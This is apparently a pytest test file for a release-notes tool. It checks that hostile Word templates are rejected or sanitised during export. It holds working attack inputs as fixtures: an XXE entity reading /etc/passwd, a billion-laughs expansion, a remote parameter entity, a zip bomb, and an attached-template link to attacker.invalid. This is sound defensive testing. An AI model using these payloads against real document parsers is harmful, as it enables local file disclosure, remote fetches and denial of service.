"""Hostile Word style templates for the release notes: one line each, and no template can make
the export read a local file or reach the network (issue 18)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from docx import Document

from relman_desktop.cli import main
from relman_desktop.exports import docx_template

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    return main(list(argv), out=out, err=err), out.getvalue(), err.getvalue()


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    path = tmp_path_factory.mktemp("templates") / "demo.relman"
    assert run("--plan", str(path), "demo", "--releases", "3", "--seed", "4")[0] == 0
    key = run("--plan", str(path), "releases")[1].splitlines()[1].split()[0]
    return path, key


def _valid_docx() -> bytes:
    buffer = io.BytesIO()
    Document().save(buffer)
    return buffer.getvalue()


def _rebuilt(replace: dict[str, bytes], *, compression: dict[str, int] | None = None) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_valid_docx())) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            data = replace.get(info.filename, src.read(info))
            dst.writestr(
                info.filename,
                data,
                compress_type=(compression or {}).get(info.filename, zipfile.ZIP_DEFLATED),
            )
        for name in set(replace) - set(src.namelist()):
            dst.writestr(name, replace[name])
    return out.getvalue()


def _corrupt_deflate() -> bytes:
    data = bytearray(_rebuilt({}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo("word/styles.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start + 10, start + 40):
        data[i] ^= 0x5A
    return bytes(data)


def _unknown_method() -> bytes:
    data = bytearray(_rebuilt({}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo("word/styles.xml")
    data[info.header_offset + 8] = 99  # local header: compression method 99 (AES), unsupported
    central = data.find(b"word/styles.xml", data.find(b"PK\x01\x02")) - 46
    data[central + 10] = 99
    return bytes(data)


XXE = (
    b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&secret;</w:styles>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol9;</w:document>'
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % remote SYSTEM "http://example.invalid/x.dtd">'
    b'%remote;]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
)

REFUSED = {
    "malformed document.xml": (
        lambda: _rebuilt({"word/document.xml": b"<w:document><w:body>"}),
        "word/document.xml is not well-formed XML",
    ),
    "external entity (XXE)": (
        lambda: _rebuilt({"word/styles.xml": XXE}),
        "word/styles.xml declares a DTD",
    ),
    "entity expansion": (
        lambda: _rebuilt({"word/document.xml": LAUGHS}),
        "word/document.xml declares a DTD",
    ),
    "remote parameter entity": (
        lambda: _rebuilt({"word/document.xml": PARAMETER_ENTITY}),
        "declares a DTD",
    ),
    "corrupt deflate stream": (_corrupt_deflate, "word/styles.xml is damaged"),
    "bzip2 compression": (
        lambda: _rebuilt({}, compression={"word/styles.xml": zipfile.ZIP_BZIP2}),
        "word/styles.xml uses a compression Word documents do not use",
    ),
    "unknown compression method": (_unknown_method, "word/styles.xml"),
    "not a zip at all": (lambda: b"PK\x03\x04 this is not a zip", "is not a Word document"),
    "empty file": (lambda: b"", "is not a Word document"),
    "no main document": (
        lambda: _rebuilt(
            {
                "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
            }
        ),
        "is not a Word document",
    ),
}


@pytest.mark.parametrize("kind", list(REFUSED))
def test_a_hostile_template_is_one_line_and_no_document(
    demo: tuple[Path, str], tmp_path: Path, kind: str
) -> None:
    build, expected = REFUSED[kind]
    template = tmp_path / "style.docx"
    template.write_bytes(build())
    out = tmp_path / "notes.docx"
    rc, _, err = run(
        "--plan", str(demo[0]), "export", "notes", demo[1], str(out), "--template", str(template)
    )
    assert rc == 2 and err.count("\n") == 1 and "Traceback" not in err
    assert err.startswith("relman: the style template style.docx") and expected in err, err
    assert not out.exists()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(
    demo: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(docx_template, "MAX_UNPACKED", 1024 * 1024)
    template = tmp_path / "bomb.docx"
    template.write_bytes(_rebuilt({"word/media/zeros.bin": bytes(4 * 1024 * 1024)}))
    rc, _, err = run(
        "--plan",
        str(demo[0]),
        "export",
        "notes",
        demo[1],
        str(tmp_path / "n.docx"),
        "--template",
        str(template),
    )
    assert rc == 2 and "unpacks to more than 1 MB" in err


def test_an_attached_template_on_a_server_is_dropped_and_the_styles_kept(
    demo: tuple[Path, str], tmp_path: Path
) -> None:
    valid = _valid_docx()
    with zipfile.ZipFile(io.BytesIO(valid)) as z:
        settings = z.read("word/settings.xml").decode()
        styles = z.read("word/styles.xml").decode()
    settings = settings.replace(
        "<w:zoom", f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdEvil"/><w:zoom', 1
    )
    rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdEvil" Type="{ATTACHED}" Target="http://attacker.invalid/t.dotm" TargetMode="External"/>'
        f'<Relationship Id="rIdFile" Type="{ATTACHED}" Target="file:///etc/passwd" TargetMode="External"/>'
        f"</Relationships>"
    )
    styles = styles.replace('w:styleId="Heading1"', 'w:styleId="Heading1"', 1)
    template = tmp_path / "corporate.docx"
    template.write_bytes(
        _rebuilt(
            {
                "word/settings.xml": settings.encode(),
                "word/_rels/settings.xml.rels": rels.encode(),
                "word/styles.xml": styles.encode(),
            }
        )
    )
    out = tmp_path / "notes.docx"
    rc, _, err = run(
        "--plan", str(demo[0]), "export", "notes", demo[1], str(out), "--template", str(template)
    )
    assert (rc, err) == (0, "")
    with zipfile.ZipFile(out) as z:
        everything = b"".join(z.read(n) for n in z.namelist() if n.endswith((".xml", ".rels")))
    assert b"attacker.invalid" not in everything and b"/etc/passwd" not in everything
    assert b"attachedTemplate" not in everything
    doc = Document(str(out))
    assert demo[1] in "\n".join(p.text for p in doc.paragraphs)
